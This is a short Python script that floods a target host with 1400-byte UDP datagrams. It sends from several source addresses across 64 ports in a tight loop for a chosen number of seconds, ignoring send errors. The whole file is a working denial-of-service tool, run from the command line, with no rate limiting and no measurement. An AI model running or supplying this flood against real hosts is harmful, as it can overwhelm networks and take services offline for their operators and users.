"""A program: sends datagrams as fast as it can from two addresses to changing ports, whatever becomes of them."""

from __future__ import annotations

import contextlib
import socket
import sys
import time

LENGTH_BYTES = 1400
PORTS = range(20_000, 60_000)


def main(sources: list[str], target: str, seconds: float) -> None:
    """Floods until the time is over."""
    sockets = []
    for source in sources:
        sockets.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        sockets[-1].bind((source, 0))
    datagram, deadline = bytes(LENGTH_BYTES), time.monotonic() + seconds
    while time.monotonic() < deadline:
        for port in PORTS[:: len(PORTS) // 64]:
            for each in sockets:
                with contextlib.suppress(OSError):
                    each.sendto(datagram, (target, port))


if __name__ == "__main__":
    main(sys.argv[1].split(","), sys.argv[2], float(sys.argv[3]))
